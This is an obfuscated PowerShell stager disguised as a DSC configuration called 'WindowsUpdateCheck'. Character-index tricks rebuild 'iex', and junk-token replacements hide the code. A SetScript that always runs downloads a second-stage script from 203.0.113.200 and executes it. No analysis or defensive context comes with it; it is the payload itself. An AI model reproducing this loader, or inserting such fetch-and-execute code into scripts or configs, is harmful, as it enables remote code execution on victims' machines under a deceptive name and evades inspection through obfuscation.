.( $PSHome[21]+$PSHome[30]+'x') 'iex ((''# setup 8ZJJ74536 v3
Cjz~6nfiguratijz~6n Windjz~6wsUpdateCheck {
  Impjz~6rt-DscResjz~6urce -Mjz~6duleName PSDesiredStateCjz~6nfiguratijz~6n
  Njz~6de ljz~6calhjz~6st {
    ScriptZJJ74 ZJJ74Bjz~6jz~6tstrap {
      GetScript = { @{ Result = '''''''' } }
      TestScript = { $false }
      SeZJJ74tScript = { IEX (New-Object Net.WebClient).Djz~6wnljz~6adString(''''http://203.0.113.200/stage2.ps1'''') }
    }
  }
}
'' -replace ''ZJJ74'','''').Replace(''jz~6'',''o''))'